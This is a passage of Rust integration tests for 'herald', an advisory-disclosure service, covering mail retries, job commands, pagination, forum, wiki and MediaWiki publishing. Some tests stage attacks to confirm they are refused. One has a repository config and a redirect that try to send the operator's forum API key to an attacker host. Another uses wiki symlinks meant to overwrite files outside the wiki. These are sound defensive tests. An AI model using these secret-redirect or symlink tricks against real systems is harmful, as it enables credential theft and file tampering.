    fake: &FakeGitHub,
    reply: &str,
) -> (Harness, SmtpSink, tempfile::TempDir) {
    let MailWorld {
        mut harness,
        sink,
        _key_dir: keys,
        ..
    } = world_with_mail(fake, TWO_LISTS).await;
    harness.settings.worker.max_attempts = 2;
    harness.restart(true).await;
    report(&harness, "report-1").await;
    sink.refuse(reply);
    github_publishes(&harness).await;
    (harness, sink, keys)
}

both_stores!(a_send_herald_gives_up_on_is_reported_on_the_tracking_issue);
async fn a_send_herald_gives_up_on_is_reported_on_the_tracking_issue() {
    let fake = world().await;
    let (harness, sink, _keys) = mail_refused_with(&fake, "451 4.3.0 try again later").await;
    let gave_up = escalations(&fake, "herald gave up on send\\_mail after 2 attempts");
    assert_eq!(gave_up.len(), 2, "one per list: {gave_up:?}");
    assert!(gave_up[0].contains("try again later"), "{}", gave_up[0]);
    assert!(gave_up[0].contains("`/herald retry`"), "{}", gave_up[0]);
    assert!(sink.messages().is_empty());
    assert!(
        timeline_details(&harness)
            .await
            .iter()
            .any(|detail| detail.starts_with("herald gave up on send_mail after 2 attempts")),
    );
    assert_no_unexpected(&fake);
    harness.stop().await;
}

both_stores!(a_mail_server_that_rejects_for_good_is_not_asked_again);
async fn a_mail_server_that_rejects_for_good_is_not_asked_again() {
    let fake = world().await;
    let (harness, sink, _keys) = mail_refused_with(&fake, "554 5.7.1 relaying denied").await;
    let refused = escalations(&fake, &format!("send\\_mail for {GHSA} was refused"));
    assert_eq!(refused.len(), 2, "one per list: {refused:?}");
    assert!(refused[0].contains("relaying denied"), "{}", refused[0]);
    assert!(escalations(&fake, "gave up").is_empty());
    assert!(sink.messages().is_empty());
    // One attempt each: a permanent rejection is not retried with backoff.
    let failed = harness
        .store
        .failed_jobs(incident_id(&harness).await)
        .await
        .expect("failed jobs");
    assert_eq!(failed.len(), 2, "{failed:?}");
    assert!(
        failed
            .iter()
            .all(|job| job.kind == "send_mail" && job.attempts == 1)
    );
    // The postmaster fixes the relay; a maintainer runs the sends again.
    sink.accept();
    let said = herald_cli(&harness, &["incidents", "retry", GHSA]).await;
    assert!(said.starts_with("2 failed job(s)"), "{said}");
    harness
        .until("two announcements", async || sink.messages().len() == 2)
        .await;
    assert_eq!(sink.messages().len(), 2, "one announcement per list");
    assert_no_unexpected(&fake);
    harness.stop().await;
}

/// Waits until the poller has had a 304 for the advisory list, then for every job.
async fn polled_until_unchanged(fake: &FakeGitHub, harness: &Harness) {
    let list = format!("/repos/{REPO}/security-advisories");
    for _ in 0..400 {
        if fake
            .requests()
            .iter()
            .any(|request| request.path == list && request.status == 304)
        {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    harness.wait_all_jobs().await;
}

/// What `herald ARGS` printed on the harness's store; it must succeed.
async fn herald_cli(harness: &Harness, args: &[&str]) -> String {
    let output = herald_cli_output(harness, args).await;
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    String::from_utf8_lossy(&output.stdout).into_owned()
}

/// What `herald ARGS` said on its error output; it must fail.
async fn herald_cli_refused(harness: &Harness, args: &[&str]) -> String {
    let output = herald_cli_output(harness, args).await;
    assert!(!output.status.success(), "herald {args:?} succeeded");
    String::from_utf8_lossy(&output.stderr).into_owned()
}

async fn herald_cli_output(harness: &Harness, args: &[&str]) -> std::process::Output {
    tokio::process::Command::new(env!("CARGO_BIN_EXE_herald"))
        .args(args)
        .env("HERALD_DATABASE_URL", &harness.database_url)
        .output()
        .await
        .expect("herald runs")
}

both_stores!(herald_jobs_lists_retries_and_cancels_what_a_counterpart_refused);
async fn herald_jobs_lists_retries_and_cancels_what_a_counterpart_refused() {
    let fake = world().await;
    let (mut harness, sink, _keys) = mail_refused_with(&fake, "554 5.7.1 relaying denied").await;
    let incident = incident_id(&harness).await;
    let failed = herald_cli(&harness, &["jobs", "list", "--failed", "--json"]).await;
    let failed: Vec<serde_json::Value> = serde_json::from_str(&failed).expect("JSON");
    assert_eq!(failed.len(), 2, "one send per list: {failed:?}");
    for job in &failed {
        assert_eq!(
            (
                &job["kind"],
                &job["state"],
                &job["attempts"],
                &job["incident_id"]
            ),
            (
                &serde_json::json!("send_mail"),
                &serde_json::json!("dead"),
                &serde_json::json!(1),
                &serde_json::json!(incident.0)
            ),
            "{job}"
        );
        let error = job["last_error"].as_str().unwrap_or_default();
        assert!(error.contains("relaying denied"), "{job}");
    }
    let ids: Vec<String> = failed
        .iter()
        .map(|job| job["id"].as_i64().expect("an id").to_string())
        .collect();
    let table = herald_cli(&harness, &["jobs", "list", "--failed"]).await;
    assert_eq!(
        table.lines().count(),
        3,
        "a header and a line per job:\n{table}"
    );

    // The relay is fixed: one send is retried, the other dropped.
    sink.accept();
    let said = herald_cli(&harness, &["jobs", "retry", &ids[0]]).await;
    assert!(
        said.starts_with(&format!("job {} (send_mail) queued again", ids[0])),
        "{said}"
    );
    harness
        .until("the retried announcement", async || {
            sink.messages().len() == 1
        })
        .await;
    let said = herald_cli(&harness, &["jobs", "cancel", &ids[1]]).await;
    assert_eq!(said.trim(), format!("job {} (send_mail) cancelled", ids[1]));
    harness.wait_all_jobs().await;
    let state = async |id: &str| {
        let shown = herald_cli(&harness, &["jobs", "show", id, "--json"]).await;
        let shown: serde_json::Value = serde_json::from_str(&shown).expect("JSON");
        shown["state"].as_str().unwrap_or_default().to_owned()
    };
    assert_eq!(state(&ids[0]).await, "done");
    assert_eq!(state(&ids[1]).await, "cancelled");
    let refused = herald_cli_refused(&harness, &["jobs", "cancel", &ids[0]]).await;
    assert!(
        refused.contains(&format!(
            "job {} is done: there is nothing to cancel",
            ids[0]
        )),
        "{refused}"
    );
    let timeline = timeline_details(&harness).await;
    for (id, done, command) in [
        (&ids[0], "queued again", "retry"),
        (&ids[1], "cancelled", "cancel"),
    ] {
        let line = format!("job {id} (send_mail) {done} with `herald jobs {command}`");
        assert!(timeline.contains(&line), "{line:?} not in {timeline:?}");
    }

    // A due job, cancelled before a runner takes it, never runs.
    harness.restart(false).await;
    herald_cli(&harness, &["jobs", "retry", &ids[1]]).await;
    let due = herald_cli(
        &harness,
        &["jobs", "list", "--due", "--kind", "send_mail", "--json"],
    )
    .await;
    let due: Vec<serde_json::Value> = serde_json::from_str(&due).expect("JSON");
    let due: Vec<String> = due.iter().map(|job| job["id"].to_string()).collect();
    assert_eq!(due, [ids[1].clone()]);
    herald_cli(&harness, &["jobs", "cancel", &ids[1]]).await;
    harness.restart(true).await;
    harness.wait_all_jobs().await;
    assert_eq!(sink.messages().len(), 1, "the cancelled send never ran");
    assert_no_unexpected(&fake);
    harness.stop().await;
}

both_stores!(installing_herald_never_announces_the_past);
async fn installing_herald_never_announces_the_past() {
    let fake = world().await;
    fake.put_file(REPO, ".github/herald.yml", TRACK_PRIVATELY);
    let mut template: serde_json::Value =
        serde_json::from_slice(&fixture("repository_advisory.reported.composed.json"))
            .expect("JSON");
    let template = template["repository_advisory"].take();
    let weeks_ago = "2026-10-01T12:00:00Z";
    let old = [
        ("GHSA-5555-aaaa-0001", "published", Some(weeks_ago)),
        ("GHSA-5555-aaaa-0002", "closed", None),
        ("GHSA-5555-aaaa-0003", "withdrawn", Some(weeks_ago)),
        ("GHSA-5555-aaaa-0004", "draft", None),
        ("GHSA-5555-aaaa-0005", "triage", None),
    ];
    for (ghsa_id, state, published_at) in old {
        let mut advisory = template.clone();
        advisory["ghsa_id"] = ghsa_id.into();
        advisory["cve_id"] = serde_json::Value::Null;
        advisory["state"] = state.into();
        advisory["published_at"] = published_at.into();
        advisory["updated_at"] = weeks_ago.into();
        fake.put_advisory(REPO, advisory);
    }
    let harness = polling(&fake).await;
    polled_until_unchanged(&fake, &harness).await;

    let incidents = harness.store.all_incidents().await.expect("incidents");
    assert_eq!(incidents.len(), 5);
    let history: Vec<&str> = incidents
        .iter()
        .filter(|row| row.incident.history)
        .map(|row| row.incident.ghsa_id.as_str())
        .collect();
    assert_eq!(history.len(), 3, "{history:?}");
    assert!(!history.contains(&"GHSA-5555-aaaa-0004") && !history.contains(&"GHSA-5555-aaaa-0005"));
    let tracked = fake.issues(TRACKING_REPO);
    assert_eq!(
        tracked.len(),
        2,
        "only the draft and the triage report are tracked"
    );
    assert_eq!(public_writes(&fake), Vec::<String>::new());

    // A maintainer asks for the history's tracking issues: still nothing public.
    let said = herald_cli(&harness, &["import"]).await;
    assert!(said.contains("3 advisory(ies) imported"), "{said}");
    harness.wait_all_jobs().await;
    harness
        .until("five tracking issues", async || {
            fake.issues(TRACKING_REPO).len() == 5
        })
        .await;
    assert_eq!(fake.issues(TRACKING_REPO).len(), 5);
    assert_eq!(public_writes(&fake), Vec::<String>::new());

    // Announcing an old advisory again takes an explicit command on it.
    herald_cli(&harness, &["incidents", "announce", "GHSA-5555-aaaa-0001"]).await;
    harness
        .until("an issue in the repository", async || {
            !fake.issues(REPO).is_empty()
        })
        .await;
    harness.wait_all_jobs().await;
    assert_eq!(fake.issues(REPO).len(), 1, "its public advisory issue");
    assert!(fake.issues(REPO)[0].title.contains("GHSA-5555-aaaa-0001"));
    assert_eq!(fake.pulls(REPO).len(), 1, "its CHANGELOG pull request");
    assert_no_unexpected(&fake);
    harness.stop().await;
}

both_stores!(the_first_poll_reads_every_page_of_a_long_advisory_list);
async fn the_first_poll_reads_every_page_of_a_long_advisory_list() {
    let fake = world().await;
    let mut template: serde_json::Value =
        serde_json::from_slice(&fixture("repository_advisory.reported.composed.json"))
            .expect("JSON");
    let template = template["repository_advisory"].take();
    for index in 0..210 {
        let mut draft = template.clone();
        draft["ghsa_id"] = format!("GHSA-page-{index:04}-xxxx").into();
        draft["state"] = "draft".into();
        draft["updated_at"] = format!("2026-01-01T00:{:02}:{:02}Z", index / 60, index % 60).into();
        fake.put_advisory(REPO, draft);
    }
    let harness = polling(&fake).await;
    polled_until_unchanged(&fake, &harness).await;
    let list = format!("/repos/{REPO}/security-advisories");
    assert_eq!(
        harness.count("SELECT COUNT(*) FROM incidents").await,
        210,
        "every draft, on every page, became an incident"
    );
    let pages = fake
        .requests()
        .iter()
        .filter(|request| request.path == list && request.status == 200)
        .count();
    assert_eq!(pages, 3, "100 + 100 + 10, then conditional polls");
    assert_no_unexpected(&fake);
    harness.stop().await;
}

/// The operator's forum at `url`, posting as `herald` with the fake forum's key.
fn operators_forum(url: &str) -> herald::config::Forum {
    herald::config::Forum {
        url: url.to_owned(),
        api_username: "herald".to_owned(),
        api_key: SecretString::from(common::discourse::API_KEY),
        max_title_length: 255,
        max_post_length: 32_000,
    }
}

/// herald installed with the operator's Discourse forum `community`, which the repository
/// chooses (category 7), and `more_channels` configured.
async fn with_forum(
    fake: &FakeGitHub,
    more_channels: &str,
) -> (Harness, common::discourse::FakeDiscourse) {
    let forum = common::discourse::FakeDiscourse::start().await;
    fake.put_file(
        REPO,
        ".github/herald.yml",
        &format!(
            "tracking:\n  repository: Codertocat/security\nchannels:\n  discourse:\n    server: community\n    category_id: 7\n{more_channels}"
        ),
    );
    let url = forum.url.clone();
    let harness = installed_with(fake, move |settings| {
        settings
            .channels
            .counterparts
            .forums
            .insert("community".to_owned(), operators_forum(&url));
    })
    .await;
    (harness, forum)
}

both_stores!(a_repository_cannot_send_the_servers_secrets_elsewhere);
async fn a_repository_cannot_send_the_servers_secrets_elsewhere() {
    let fake = world().await;
    let (harness, forum) = with_forum(&fake, "").await;
    let attacker = common::discourse::FakeDiscourse::start().await;
    fake.set_permission(REPO, "alice", "admin");
    // A pusher names a forum the operator does not have (a repository's file cannot give
    // an address at all: the configuration's own tests show that refusal).
    fake.put_file(
        REPO,
        ".github/herald.yml",
        "tracking:\n  repository: Codertocat/security\nchannels:\n  discourse:\n    server: attacker\n    category_id: 7\n",
    );
    report(&harness, "report-1").await;
    github_publishes(&harness).await;
    let issue = fake.issues(TRACKING_REPO)[0].body.clone();
    assert!(
        issue.contains("no Discourse forum of that name; there are \\`community\\`"),
        "{issue}"
    );
    let refused = escalations(&fake, &format!("forum\\_post for {GHSA} was refused"));
    assert_eq!(refused.len(), 1, "{:?}", answers(&fake));
    assert!(
        refused[0].contains("\\`channels.discourse.server: attacker\\`"),
        "{}",
        refused[0]
    );
    assert!(forum.requests().is_empty() && attacker.requests().is_empty());

    // The operator's own forum moves to another host: the key does not follow it.
    fake.put_file(
        REPO,
        ".github/herald.yml",
        "tracking:\n  repository: Codertocat/security\nchannels:\n  discourse:\n    category_id: 7\n",
    );
    forum.move_to(&attacker.url.replace("127.0.0.1", "localhost"));
    command(&harness, "c-2", "alice", "/herald retry").await;
    let refused = escalations(&fake, "answered 307 with a redirect");
    assert_eq!(refused.len(), 1, "{:?}", answers(&fake));
    assert_eq!(
        forum.keys_seen(),
        vec![common::discourse::API_KEY.to_owned()]
    );
    assert!(attacker.keys_seen().is_empty() && attacker.requests().is_empty());
    assert_no_unexpected(&fake);
    harness.stop().await;
}

both_stores!(a_long_advisory_is_shortened_to_fit_every_counterpart);
async fn a_long_advisory_is_shortened_to_fit_every_counterpart() {
    let fake = world().await;
    let (harness, forum) = with_forum(&fake, "  discussions:\n    category: Announcements\n").await;
    // GitHub allows a 1,024-character summary and a 65,535-character description.
    let summary = "A very long summary ".repeat(50);
    let paragraph = format!("{}\n\n", "The parser overflows here. ".repeat(40));
    let description = paragraph.repeat(60_000 / paragraph.len() + 1);
    let long = published_advisory(|advisory| {
        advisory["summary"] = summary.trim_end().into();
        advisory["description"] = description.as_str().into();
    });
    say(&harness, "repository_advisory", "publish-1", &long).await;

    let topics = forum.topics();
    assert_eq!(
        topics.len(),
        1,
        "the forum took the topic: {:?}",
        forum.requests()
    );
    assert!(topics[0].title.chars().count() <= 255);
    assert!(topics[0].title.ends_with('…'), "{}", topics[0].title);
    let post = &topics[0].posts[0];
    assert!(post.chars().count() <= 32_000);
    assert!(post.contains("the full advisory:"), "{post}");
    let issues = fake.issues(REPO);
    assert_eq!(issues.len(), 1, "the advisory issue opened");
    assert!(issues[0].title.chars().count() <= 256);
    assert!(issues[0].body.chars().count() <= 65_536);
    assert_eq!(
        fake.pulls(REPO).len(),
        1,
        "the CHANGELOG pull request opened"
    );
    let discussions = fake.discussions(REPO);
    assert_eq!(discussions.len(), 1);
    assert!(discussions[0].body.chars().count() <= 65_536);
    let failed = harness
        .store
        .failed_jobs(incident_id(&harness).await)
        .await
        .expect("failed jobs");
    assert!(failed.is_empty(), "{failed:?}");
    assert_no_unexpected(&fake);
    harness.stop().await;
}

both_stores!(disclosure_opens_one_forum_topic_even_after_a_lost_answer_and_replies_later);
async fn disclosure_opens_one_forum_topic_even_after_a_lost_answer_and_replies_later() {
    let fake = world().await;
    let (harness, forum) = with_forum(&fake, "").await;
    report(&harness, "report-1").await;
    assert_eq!(
        forum.requests(),
        Vec::<String>::new(),
        "nothing under embargo"
    );

    // The forum creates the topic but its answer is lost: the retry finds it.
    forum.lose_next_create();
    github_publishes(&harness).await;
    let topics = forum.topics();
    assert_eq!(topics.len(), 1, "one topic: {topics:?}");
    let topic = &topics[0];
    assert_eq!(topic.category, 7);
    assert!(topic.title.contains(GHSA), "{}", topic.title);
    assert!(
        topic.posts[0].contains("A short summary of the advisory."),
        "{}",
        topic.posts[0]
    );
    assert!(
        topic
            .external_id
            .as_deref()
            .is_some_and(|id| id.starts_with("herald-ghsa-abcd-1234-efgh-")),
        "{topic:?}"
    );
    let requests = forum.requests();
    assert!(
        requests
            .iter()
            .any(|request| request.starts_with("GET /t/external_id/")),
        "the retry looked the topic up: {requests:?}"
    );
    let timeline = timeline_details(&harness).await;
    let url = format!("{}/t/{}/{}", forum.url, topic.slug, topic.id);
    assert!(
        timeline.contains(&format!("forum topic {url}")),
        "{timeline:?}"
    );

    // A later version of the advisory: a reply in the same topic.
    publish_a_sharper_summary(&harness).await;
    let topics = forum.topics();
    assert_eq!(topics.len(), 1, "still one topic");
    assert_eq!(topics[0].posts.len(), 2, "{:?}", topics[0].posts);
    assert!(topics[0].posts[1].starts_with("**Update:**"));
    assert!(topics[0].posts[1].contains("A sharper summary"));
    assert_no_unexpected(&fake);
    harness.stop().await;
}

both_stores!(disclosure_opens_one_discussion_even_after_a_lost_answer_and_comments_later);
async fn disclosure_opens_one_discussion_even_after_a_lost_answer_and_comments_later() {
    let fake = world().await;
    fake.put_file(
        REPO,
        ".github/herald.yml",
        "tracking:\n  repository: Codertocat/security\nchannels:\n  discussions:\n    category: Announcements\n",
    );
    let harness = installed(&fake).await;
    report(&harness, "report-1").await;
    assert!(fake.discussions(REPO).is_empty());
    assert_eq!(fake.count("POST", "/graphql"), 0, "nothing under embargo");

    fake.lose_next_discussion();
    github_publishes(&harness).await;
    let discussions = fake.discussions(REPO);
    assert_eq!(discussions.len(), 1, "one discussion: {discussions:?}");
    let graphql: Vec<u16> = fake
        .requests()
        .iter()
        .filter(|request| request.path == "/graphql")
        .map(|request| request.status)
        .collect();
    assert!(
        graphql.contains(&502),
        "the first creation lost its answer: {graphql:?}"
    );
    let discussion = &discussions[0];
    assert_eq!(discussion.category, "Announcements");
    assert!(discussion.title.contains(GHSA), "{}", discussion.title);
    assert!(
        discussion.body.contains("A short summary of the advisory."),
        "{}",
        discussion.body
    );
    let url = format!(
        "https://github.com/{REPO}/discussions/{}",
        discussion.number
    );
    assert!(
        timeline_details(&harness)
            .await
            .contains(&format!("discussion {url}")),
    );

    publish_a_sharper_summary(&harness).await;
    let discussions = fake.discussions(REPO);
    assert_eq!(discussions.len(), 1, "still one discussion");
    assert_eq!(discussions[0].comments.len(), 1);
    assert!(discussions[0].comments[0].starts_with("**Update:**"));
    assert!(discussions[0].comments[0].contains("A sharper summary"));
    let tracking = &fake.issues(TRACKING_REPO)[0].body;
    assert!(
        tracking.contains(&format!("| Discussion | {url} |")),
        "the tracking issue links the discussion:\n{tracking}"
    );
    assert_no_unexpected(&fake);
    harness.stop().await;
}

/// herald with the GitHub wiki on: `git` goes to the loopback git server.
async fn with_wiki(fake: &FakeGitHub, git: &common::gitserver::GitServer) -> Harness {
    fake.put_file(
        REPO,
        ".github/herald.yml",
        "tracking:\n  repository: Codertocat/security\nchannels:\n  github_wiki: true\n",
    );
    let web_url = git.url.clone();
    installed_with(fake, move |settings| {
        if let Some(github) = settings.github.as_mut() {
            github.web_url = web_url;
        }
    })
    .await
}

both_stores!(disclosure_commits_the_wiki_page_and_index_even_when_someone_edits_meanwhile);
async fn disclosure_commits_the_wiki_page_and_index_even_when_someone_edits_meanwhile() {
    let fake = world().await;
    let git = common::gitserver::GitServer::start().await;
    git.create_wiki(REPO);
    let harness = with_wiki(&fake, &git).await;
    report(&harness, "report-1").await;
    assert_eq!(
        git.requests(),
        Vec::<String>::new(),
        "nothing under embargo"
    );

    git.race_next_push(REPO, "Home.md", "Welcome, edited by a maintainer.\n");
    github_publishes(&harness).await;
    let page = git
        .file(REPO, &format!("Security-Advisories/{GHSA}.md"))
        .expect("the advisory's page");
    assert!(page.contains("A short summary of the advisory."), "{page}");
    let index = git
        .file(REPO, "Security-Advisories.md")
        .expect("the index page");
    assert!(
        index.contains(&format!("[{GHSA}](Security-Advisories/{GHSA})")),
        "{index}"
    );
    assert_eq!(
        git.file(REPO, "Home.md").as_deref(),
        Some("Welcome, edited by a maintainer.\n"),
        "the concurrent edit is kept"
    );
    let url = format!("{}/{REPO}/wiki/{GHSA}", git.url);
    assert!(
        timeline_details(&harness)
            .await
            .contains(&format!("wiki page {url}")),
    );
    // The token went over HTTP only: it is in no git config on the server.
    let tokens = git.tokens();
    assert!(!tokens.is_empty());
    let config = std::fs::read_to_string(git.wiki_path(REPO).join("config")).expect("config");
    assert!(tokens.iter().all(|token| !config.contains(token.as_str())));

    // A new version rewrites the page; the index keeps one line.
    publish_a_sharper_summary(&harness).await;
    let page = git
        .file(REPO, &format!("Security-Advisories/{GHSA}.md"))
        .expect("the page");
    assert!(page.contains("A sharper summary"), "{page}");
    let index = git.file(REPO, "Security-Advisories.md").expect("index");
    assert_eq!(
        index.lines().filter(|line| line.starts_with("- ")).count(),
        1,
        "one line per advisory: {index}"
    );
    assert_no_unexpected(&fake);
    harness.stop().await;
}

both_stores!(a_wiki_whose_pages_are_links_elsewhere_is_refused_not_written_through);
async fn a_wiki_whose_pages_are_links_elsewhere_is_refused_not_written_through() {
    let fake = world().await;
    let git = common::gitserver::GitServer::start().await;
    git.create_wiki(REPO);
    // Files of this machine that a pusher to the wiki would have herald overwrite.
    let outside = tempfile::tempdir().expect("temp dir");
    let victim = outside.path().join("herald.toml");
    std::fs::write(&victim, "database_url = \"sqlite://herald.db\"\n").expect("victim");
    git.commit_symlink(REPO, "Security-Advisories.md", &victim);
    git.commit_symlink(REPO, "Security-Advisories", outside.path());
    let harness = with_wiki(&fake, &git).await;
    report(&harness, "report-1").await;
    github_publishes(&harness).await;

    assert_eq!(
        std::fs::read_to_string(&victim).expect("victim"),
        "database_url = \"sqlite://herald.db\"\n"
    );
    let written: Vec<_> = std::fs::read_dir(outside.path())
        .expect("outside")
        .map(|entry| entry.expect("entry").file_name())
        .collect();
    assert_eq!(written, vec![std::ffi::OsString::from("herald.toml")]);
    assert_eq!(
        git.file(REPO, &format!("Security-Advisories/{GHSA}.md")),
        None
    );
    let refused = escalations(&fake, &format!("wiki\\_page for {GHSA} was refused"));
    assert_eq!(refused.len(), 1, "{:?}", answers(&fake));
    assert!(
        refused[0].contains(
            "holds Security-Advisories as a symbolic link, where herald writes a plain folder"
        ),
        "{}",
        refused[0]
    );
    assert_no_unexpected(&fake);
    harness.stop().await;
}

both_stores!(an_uninitialised_wiki_is_reported_once_not_retried);
async fn an_uninitialised_wiki_is_reported_once_not_retried() {
    let fake = world().await;
    let git = common::gitserver::GitServer::start().await;
    let harness = with_wiki(&fake, &git).await;
    report(&harness, "report-1").await;
    github_publishes(&harness).await;
    let reports = escalations(&fake, "is not initialised");
    assert_eq!(reports.len(), 1, "{reports:?}");
    assert!(
        timeline_details(&harness)
            .await
            .iter()
            .any(|detail| detail.contains("wiki of Codertocat/Hello-World is not initialised")),
    );
    let clones = git.requests().len();
    harness.wait_all_jobs().await;
    assert_eq!(git.requests().len(), clones, "not retried");
    assert_no_unexpected(&fake);
    harness.stop().await;
}

const WITH_MEDIAWIKI: &str =
    "tracking:\n  repository: Codertocat/security\nchannels:\n  mediawiki:\n    server: docs\n";

/// herald installed with `wiki` as the operator's MediaWiki `docs`, logging in with
/// `password`.
async fn with_mediawiki(
    fake: &FakeGitHub,
    wiki: &common::mediawiki::MediaWiki,
    password: &str,
    adjust: impl FnOnce(&mut herald::config::Settings),
) -> Harness {
    fake.put_file(REPO, ".github/herald.yml", WITH_MEDIAWIKI);
    let operators = herald::config::Wiki {
        api_url: wiki.api_url.clone(),
        username: wiki.username.clone(),
        password: SecretString::from(password.to_owned()),
    };
    installed_with(fake, move |settings| {
        settings
            .channels
            .counterparts
            .wikis
            .insert("docs".to_owned(), operators);
        adjust(settings);
    })
    .await
}

both_stores!(disclosure_writes_the_mediawiki_page_and_a_new_version_edits_it);
async fn disclosure_writes_the_mediawiki_page_and_a_new_version_edits_it() {
    let wiki = common::mediawiki::MediaWiki::start();
    let fake = world().await;
    let harness = with_mediawiki(&fake, &wiki, &wiki.password, |_| {}).await;
    report(&harness, "report-1").await;
    let title = format!("Security advisories/{GHSA}");
    assert_eq!(wiki.page(&title).await, None, "nothing under embargo");

    github_publishes(&harness).await;
    let (text, revisions) = wiki.page(&title).await.expect("the page exists");
    assert_eq!(revisions, 1);
    assert!(text.contains("A short summary of the advisory."), "{text}");
    assert!(
        timeline_details(&harness)
            .await
            .iter()
            .any(|detail| detail.starts_with("MediaWiki page http://127.0.0.1:")),
    );

    publish_a_sharper_summary(&harness).await;
    let (text, revisions) = wiki.page(&title).await.expect("the page");
    assert_eq!(revisions, 2, "edited, not duplicated");
    assert!(text.contains("A sharper summary"), "{text}");
    assert_no_unexpected(&fake);
    harness.stop().await;
}

both_stores!(a_wrong_mediawiki_bot_password_is_a_clear_error);
async fn a_wrong_mediawiki_bot_password_is_a_clear_error() {
    let wiki = common::mediawiki::MediaWiki::start();
    let fake = world().await;
    let harness = with_mediawiki(&fake, &wiki, "not-the-password", |settings| {
        settings.worker.max_attempts = 1;
    })
    .await;
    report(&harness, "report-1").await;
    github_publishes(&harness).await;
    let gave_up = escalations(&fake, &format!("mediawiki\\_page for {GHSA} was refused"));
    assert_eq!(gave_up.len(), 1, "{gave_up:?}");
    assert!(
        gave_up[0].contains("refused the login of Admin")
            && gave_up[0].contains("Incorrect username or password"),
        "{}",
        gave_up[0]
    );
    assert!(!gave_up[0].contains("not-the-password"));
    assert_eq!(
        wiki.page(&format!("Security advisories/{GHSA}")).await,
        None
    );
    harness.stop().await;
}

/// What each job kind's own handler says it did, for
/// [`each_job_kind_runs_its_own_handler`]. Exhaustive: a new kind does not compile until
/// the test names what its handler says.
fn handler_says(job: &Job) -> &'static str {
    match job {
        Job::ProcessDelivery { .. } => "updated incident GHSA-abcd-1234-efgh",
        Job::SyncTrackingIssue { .. } => "tracking issue up to date",
        Job::MaintainerAction { .. } => "1 command(s) from alice (",
        Job::PostComment(_) => "comment on Codertocat/security#1 posted",
        Job::RequestCve { .. } => "CVE id requested from GitHub",
        Job::PublishAdvisory { .. } => "GitHub says the advisory is published",
        Job::Public { channel, .. } => match channel {
            PublicChannel::ChangelogPr => "CHANGELOG: updated Codertocat/Hello-World#1",
            PublicChannel::AdvisoryIssue => "advisory issue Codertocat/Hello-World#2 updated",
            PublicChannel::BlogPostPr => "no blog configured",
            PublicChannel::ForumPost => "no forum configured",
            PublicChannel::DiscussionPost => "no discussions configured",
            PublicChannel::WikiPage => "no wiki configured",
            PublicChannel::MediaWikiPage => "no MediaWiki configured",
            PublicChannel::Announce => "announcement: 0 list(s)",
        },
        Job::SendMail(_) => "no SMTP server configured",
        Job::Escalate(_) => "reminder no longer applies",
        Job::PostReview { .. } => "post-incident review for Codertocat/security#1",
        Job::MatchUpstream { .. } => "global advisory GHSA-rf4j-j272-fj86: upstream incident",
        Job::Containment(_) => "temporary action 1 still open on day 1: reminded",
        Job::PrivateFork { .. } => "the advisory is published: no temporary private fork",
        Job::Chat(_) => "no chat webhook configured",
        Job::TrackPull(_) => "fix Codertocat/Hello-World#1 is open",
        Job::Prenotify(_) => {
            "pre-notification to distros@vs.openwall.example not sent: the advisory is public now"
        }
        Job::EmbargoEnd(_) => "nobody waits past this embargo date",
    }
}

both_stores!(each_job_kind_runs_its_own_handler);
/// One job of each kind, queued by hand for one disclosed incident, finishes with its own
/// handler's account of what it did.
async fn each_job_kind_runs_its_own_handler() {
    let fake = world().await;
    fake.set_sbom(REPO, &["pkg:pypi/django@2.0.1"]);
    let harness = publish_approved(&fake, |_| {}).await;
    report_global_advisory(&harness).await;
    command(
        &harness,
        "c-2",
        "alice",
        "/herald contain disabled the upload endpoint",
    )
    .await;
    let incident = incident_id(&harness).await;
    let repository = herald::incident::RepoName::parse(TRACKING_REPO).expect("name");
    let mut jobs = vec![
        Job::ProcessDelivery {
            delivery: herald::incident::DeliveryId::parse("report-1").expect("an id"),
        },
        Job::SyncTrackingIssue { incident },
        Job::MaintainerAction {
            delivery: herald::incident::DeliveryId::parse("c-1").expect("an id"),
        },
        Job::PostComment(PendingComment {
            repository,
            issue: 1,
            body: "dispatch".into(),
            marker: "<!-- herald:reply dispatch -->".into(),
        }),
        Job::RequestCve { incident },
        Job::PublishAdvisory { incident },
        Job::SendMail(PendingMail {
            incident_id: incident,
            list: herald::repo_config::MailingList {
                address: "announce@example.invalid".into(),
                name: None,
                signing: herald::repo_config::SigningMode::Cleartext,
                attach_cleartext: false,
            },
        }),
        Job::Escalate(PendingEscalation {
            incident_id: incident,
            stage: Stage::Warning,
            due: None,
        }),
        Job::PostReview { incident },
        Job::MatchUpstream {
            delivery: herald::incident::DeliveryId::parse("global-1").expect("an id"),
        },
        Job::Containment(PendingContainment {
            incident_id: incident,
            action: 1,
            notice: ContainmentNotice::Reminder(1),
        }),
        Job::PrivateFork { incident },
        Job::Chat(PendingChat {
            incident_id: incident,
            notice: ChatNotice::Opened,
        }),
        Job::TrackPull(PendingPull {
            incident_id: incident,
            repository: herald::incident::RepoName::parse(REPO).expect("name"),
            number: 1,
        }),
        Job::Prenotify(herald::jobs::PendingPrenotice {
            incident_id: incident,
            address: "distros@vs.openwall.example".into(),
            embargo_until: chrono::Utc::now(),
            moved_from: None,
        }),
        Job::EmbargoEnd(herald::jobs::PendingEmbargoEnd {
            incident_id: incident,
            embargo_until: chrono::Utc::now(),
        }),
    ];
    jobs.extend(PublicChannel::ALL.map(|channel| Job::Public { channel, incident }));
    let mut work = harness.store.begin_durable().await.expect("transaction");
    for (index, job) in jobs.iter().enumerate() {
        work.enqueue(job, &format!("dispatch-check:{index}"))
            .expect("queued");
    }
    work.commit().await.expect("committed");
    harness.wait_all_jobs().await;
    let finished: Vec<(String, String, Option<String>, Option<String>)> = sqlx::query_as(
        "SELECT kind, state, outcome, last_error FROM outbox \
         WHERE idempotency_key LIKE 'dispatch-check:%' ORDER BY id",
    )
    .fetch_all(harness.store.pool())
    .await
    .expect("the jobs");
    assert_eq!(finished.len(), jobs.len());
    for (job, (kind, state, outcome, error)) in jobs.iter().zip(&finished) {
        assert_eq!(kind, job.kind().as_str());
        assert_eq!(state, "done", "{kind}: {error:?}");
        let outcome = outcome.as_deref().unwrap_or_default();
        assert!(
            outcome.starts_with(handler_says(job)),
            "{kind} said {outcome:?}, not its handler's {:?}",
            handler_says(job)
        );
    }
    assert_no_unexpected(&fake);
    harness.stop().await;
}

/// A maintainer's comment on the tracking issue, and everything it leads to.
async fn command(harness: &Harness, delivery_id: &str, sender: &str, text: &str) {
    say(
        harness,
        "issue_comment",
        delivery_id,
        &comment(sender, text),
    )
    .await;
}
